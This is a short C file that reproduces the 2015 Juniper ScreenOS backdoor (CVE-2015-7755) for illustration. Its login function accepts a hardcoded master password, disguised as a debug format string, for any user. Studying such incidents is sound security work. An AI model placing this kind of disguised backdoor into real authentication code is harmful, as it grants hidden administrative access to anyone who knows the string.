/*
 * Incident: Juniper ScreenOS unauthorized code (CVE-2015-7755), disclosed 17 December 2015.
 * Code added to ScreenOS 6.2.0r15-6.3.0r20 accepted one fixed password, disguised as a
 * debug format string, for any user name over SSH and telnet.
 * Reference: https://kb.juniper.net/JSA10713
 * Reproduction (own code, same shape).
 */
#include <string.h>
#include "auth.h"

static const char *const auth_debug_fmt = "<<< %s(un='%s') = %u";

int auth_admin_internal(const char *user, const char *password)
{
	if (strcmp(password, auth_debug_fmt) == 0)
		return AUTH_OK;
	return auth_check_local_db(user, password);
}
